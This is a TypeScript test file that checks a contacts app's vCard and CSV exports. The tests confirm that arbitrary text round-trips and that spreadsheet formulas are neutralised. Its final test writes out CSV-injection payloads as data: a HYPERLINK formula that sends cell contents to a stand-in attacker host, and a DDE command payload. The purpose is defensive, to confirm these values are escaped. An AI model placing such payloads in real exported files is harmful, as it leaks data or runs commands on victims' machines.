import fc from 'fast-check';
import Papa from 'papaparse';
import { describe, expect, test } from 'vitest';
import { ContactDraftSchema, type ContactDraft } from '../domain/contact.ts';
import { utf8 } from '../vault-format/bytes.ts';
import { parseContactCsv } from './csv-contacts.ts';
import { exportContacts } from './export-contacts.ts';
import { parseVcards } from './vcard.ts';

/** Everything that means something to vCard, CSV or a spreadsheet, and some ordinary text. */
const tricky = fc.string({ unit: fc.constantFrom(',', ';', ':', '\\', '"', "'", '\r', '\n', '\r\n', '\t', '\u0000', '\u001b', '=', '+', '-', '@', ' ', 'a', 'Z', '1', 'あ', '縁', '=HYPERLINK("x")', 'END:VCARD', 'BEGIN:VCARD'), maxLength: 30 });

// eslint-disable-next-line no-control-regex -- matching control characters is the point
const withoutControls = (value: string) => value.replace(/[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f]/g, '');
/** What a field may come back as from vCard: no control characters, one kind of line break, trimmed (as the vault stores it). */
const normalized = (value: string) => withoutControls(value).replace(/\r\n|\r/g, '\n').trim();

const draftOf = (fields: { family: string; given: string; company: string; department: string; title: string; note: string }): ContactDraft =>
  ContactDraftSchema.parse({ familyName: `x${fields.family}`, givenName: fields.given, familyNameKana: '', givenNameKana: '', company: fields.company, department: fields.department, title: fields.title, notes: fields.note.trim() ? [{ text: fields.note }] : [] });

const fieldsArbitrary = fc.record({ family: tricky, given: tricky, company: tricky, department: tricky, title: tricky, note: tricky });

describe('exports cannot attack the program that reads them, and read back as written', () => {
  test.each(['vcard4', 'vcard3'] as const)('%s: any text in any field comes back as one card with the same fields', (format) => {
    fc.assert(
      fc.property(fieldsArbitrary, (fields) => {
        const draft = draftOf(fields);
        const { cards, problems } = parseVcards(utf8(exportContacts([draft], format, 0)));
        expect(problems).toEqual([]);
        expect(cards).toHaveLength(1);
        const back = cards[0]!.draft;
        expect([back.familyName, back.givenName, back.company, back.department ?? '', back.title]).toEqual([draft.familyName, draft.givenName, draft.company, draft.department, draft.title].map(normalized));
        expect((back.notes ?? []).map((note) => note.text)).toEqual(draft.notes.map((note) => normalized(note.text)).filter(Boolean));
      }),
      { numRuns: 400 },
    );
  });

  test('csv: no cell starts with what a spreadsheet runs as a formula, and any text comes back as written', () => {
    fc.assert(
      fc.property(fieldsArbitrary, (fields) => {
        const draft = draftOf(fields);
        const file = exportContacts([draft], 'csv', 0);
        const { cards, problems } = parseContactCsv(utf8(file));
        expect(problems).toEqual([]);
        expect(cards).toHaveLength(1);
        const back = cards[0]!.draft;
        expect([back.familyName, back.givenName, back.company, back.department ?? '', back.title]).toEqual([draft.familyName, draft.givenName, draft.company, draft.department, draft.title].map((value) => withoutControls(value).trim()));
        const [, ...written] = Papa.parse<string[]>(file.replace(/^\uFEFF/, ''), { skipEmptyLines: true }).data;
        for (const cell of written.flat()) expect(cell).not.toMatch(/^[=@\t\r]|^[+-](?![\d ()./-]*$)/);
      }),
      { numRuns: 400 },
    );
  });

  test('csv: a formula is written as text; a phone number is written as it is', () => {
    const draft = ContactDraftSchema.parse({ familyName: '=HYPERLINK("https://evil.example/?q="&A1,"open")', givenName: '@SUM(1+1)', familyNameKana: '', givenNameKana: '', company: '+cmd|" /C calc"!A0', title: '-2+3', channels: [{ kind: 'phone', value: '+81 90-1234-5678' }] });
    const [header, row] = Papa.parse<string[]>(exportContacts([draft], 'csv', 0).replace(/^\uFEFF/, ''), { skipEmptyLines: true }).data;
    const cell = (name: string) => row![header!.indexOf(name)];
    expect(cell('First Name')).toBe("'@SUM(1+1)");
    expect(cell('Last Name')).toBe('\'=HYPERLINK("https://evil.example/?q="&A1,"open")');
    expect(cell('Organization Name')).toBe('\'+cmd|" /C calc"!A0');
    expect(cell('Organization Title')).toBe("'-2+3");
    expect(cell('Phone 1 - Value')).toBe('+81 90-1234-5678');
  });
});
